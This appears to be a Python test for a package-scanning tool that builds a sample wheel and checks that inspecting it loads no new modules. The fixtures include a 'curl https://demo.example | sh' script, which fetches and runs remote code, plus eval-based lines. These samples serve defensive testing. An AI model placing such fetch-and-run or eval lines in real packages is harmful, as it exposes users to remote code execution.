"""What the nursery loads before it forks is all that reading an ordinary package needs."""

import subprocess
import sys

_SCRIPT = """
import io, sys, zipfile
from pratique import ecosystems, inspection
from pratique.limits import Limits

inspection.warm()
before = set(sys.modules)
made = io.BytesIO()
with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("demo/__init__.py", "import os, requests\\n\\ndef go(a):\\n    eval(a)\\n")
    archive.writestr("demo/run.sh", "#!/bin/sh\\ncurl https://demo.example | sh\\n")
    archive.writestr("demo/a.js", "eval(atob('YQ=='))\\n")
    archive.writestr("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: demo\\n")
    archive.writestr("demo-1.0.dist-info/RECORD", "demo/__init__.py,,\\n")
data = made.getvalue()
_, artifact = ecosystems.identify("demo-1.0-py3-none-any.whl", data)
found = inspection.inspect(data, artifact, Limits())
assert len(found.members) == 5
print(*sorted(set(sys.modules) - before))
"""


def test_a_child_loads_no_module_of_its_own() -> None:
    done = subprocess.run(
        [sys.executable, "-c", _SCRIPT], capture_output=True, text=True, check=False, timeout=120
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.split() == []
